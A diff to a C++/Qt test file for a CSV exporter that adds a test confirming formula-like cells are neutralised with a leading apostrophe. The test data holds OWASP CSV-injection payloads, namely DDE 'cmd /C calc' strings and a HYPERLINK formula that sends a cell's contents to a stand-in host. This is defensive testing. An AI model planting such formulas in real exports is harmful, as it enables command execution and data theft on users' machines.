@@ -164,7 +164,7 @@ TEST_CASE("csv: writing for Excel: BOM, semicolons, CRLF, quotes only where need
     const QString text = QString::fromUtf8(bytes.mid(3));
     CHECK(text.startsWith(QStringLiteral("Naam;Geboortedatum;Opmerking\r\n")));
     CHECK(text.contains(QStringLiteral("Hélène;05/03/1990;\"zegt \"\"ja\"\"; komt\nmorgen\"\r\n")));
-    CHECK(text.contains(QStringLiteral("'=SUM(A1);;+32 470 12 34 56\r\n")));
+    CHECK(text.contains(QStringLiteral("'=SUM(A1);;'+32 470 12 34 56\r\n")));
     CHECK(CsvWriter::cell(QStringLiteral("-5")) == QStringLiteral("-5"));
     CHECK(CsvWriter::cell(QStringLiteral("@cmd")) == QStringLiteral("'@cmd"));
     CHECK(CsvWriter::cell(QStringLiteral(" spatie")) == QStringLiteral("\" spatie\""));
@@ -175,6 +175,60 @@ TEST_CASE("csv: writing for Excel: BOM, semicolons, CRLF, quotes only where need
     CHECK(table.encoding == CsvEncoding::Utf8WithBom);
     REQUIRE(table.rows.size() == 2);
     CHECK(table.rows[0].cells.at(2) == QStringLiteral("zegt \"ja\"; komt\nmorgen"));
+}
+
+TEST_CASE("csv: formula payloads go out as text, numbers stay numbers")
+{
+    // The OWASP CSV-injection payloads, and what a partner's spreadsheet or a phone field holds.
+    const QStringList payloads = {
+        QStringLiteral("=cmd|' /C calc'!A0"),
+        QStringLiteral("+1+cmd|' /C calc'!A0"),
+        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
+        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
+        QStringLiteral("=HYPERLINK(\"http://voorbeeld.invalid/?x=\"&A1,\"Klik hier\")"),
+        QStringLiteral("+ HYPERLINK(\"http://voorbeeld.invalid\")"),
+        QStringLiteral("-1+1"),
+        QStringLiteral("-(1)"),
+        QStringLiteral("+32 470 12 34 56"),
+        QStringLiteral("-"),
+        QStringLiteral("+"),
+        QStringLiteral("\t=1+1"),
+        QStringLiteral("\r=1+1"),
+        QStringLiteral("=1"),
+        QStringLiteral("-5-"),
+        QStringLiteral("+1e5"),
+        QStringLiteral("-1,5,5"),
+    };
+    for (const QString &payload : payloads) {
+        INFO(payload.toStdString());
+        const QString written = CsvWriter::cell(payload);
+        // The cell as Excel reads it: after the quotes, if any, it starts with the apostrophe.
+        const QString unquoted = written.startsWith(QLatin1Char('"'))
+            ? written.mid(1, written.size() - 2)
+                  .replace(QStringLiteral("\"\""), QStringLiteral("\""))
+            : written;
+        CHECK(unquoted == QLatin1Char('\'') + payload);
+        // Read back, the cell keeps all it said, with the apostrophe in front (the reader makes
+        // a line break inside a cell one "\n").
+        const auto table
+            = require(CsvReader::parse(CsvWriter::write({ QStringLiteral("a") }, { { payload } })));
+        REQUIRE(table.rows.size() == 1);
+        CHECK(table.rows[0].cells.at(0)
+              == QLatin1Char('\'')
+                  + QString(payload).replace(QLatin1Char('\r'), QLatin1Char('\n')));
+    }
+
+    const QStringList numbers
+        = { QStringLiteral("-5"),   QStringLiteral("+5"), QStringLiteral("-12,5"),
+            QStringLiteral("3.25"), QStringLiteral("0"),  QStringLiteral("-0.5"),
+            QStringLiteral("12"),   QStringLiteral("+32") };
+    for (const QString &number : numbers) {
+        INFO(number.toStdString());
+        CHECK(CsvWriter::cell(number) == number);
+    }
+    // Text that does not start with one of them is left as it is.
+    CHECK(CsvWriter::cell(QStringLiteral("Amina = 1")) == QStringLiteral("Amina = 1"));
+    CHECK(CsvWriter::cell(QStringLiteral("0470 12 34 56")) == QStringLiteral("0470 12 34 56"));
 }
 
 TEST_CASE("csv: a list is written to a file owner-only, or not at all")
